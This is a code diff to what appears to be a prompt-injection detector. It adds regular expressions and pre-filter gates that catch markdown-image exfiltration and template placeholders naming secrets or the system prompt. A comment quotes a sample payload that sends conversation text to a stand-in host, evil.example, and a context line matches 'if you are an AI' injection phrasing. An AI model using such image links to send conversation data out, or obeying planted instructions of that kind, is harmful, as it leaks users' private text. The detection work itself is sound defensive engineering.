@@ -411,6 +411,12 @@ PATTERNS: tuple[str, ...] = (
     r"\bif\s+(?:you\s*['’]?re|you\s+are|u\s+r|ur)\s+(?:an?\s+)?(?:ai|bot|robot|language\s+model|llm|chatbot|gpt"
     r"|machine)\b[^.?!\n]{0,20}?,?\s*(?:include|say|write|add|respond|reply|answer|start|end|mention|put|use|type"
     r"|ignore|approve|refund|give|issue)\b",
+    # a markdown image whose address carries a placeholder, so a model that fills it in sends the text away
+    # when the image loads: "![img](http://evil.example/?q={{conversation}})" (sixteenth session's probes)
+    r"!\[[^\]\n]{0,200}\]\(\s*https?://[^)\s]*(?:\{|%7b|\$\{)",
+    # a template placeholder naming what only the system holds: "{{system_prompt}}", "{{ secrets.api_key }}"
+    r"\{\{\s*(?:system|prompt|conversation|context|secrets?|api|password|instructions|history|config|env)"
+    r"[\w.\s-]{0,40}\}\}",
 )
 
 
@@ -736,6 +742,14 @@ GATES: tuple[_Gate, ...] = (
             "include say write add respond reply answer start end mention put use type ignore approve refund "
             "give issue",
         )
+    ),
+    _Gate(_w("http https"), ("![",)),
+    _Gate(
+        _w(
+            "system prompt conversation context secret secrets api password instructions history config env "
+            "system_prompt api_key apikey conversation_history"
+        ),
+        ("{{",),
     ),
 )
 _SHAPES = tuple(
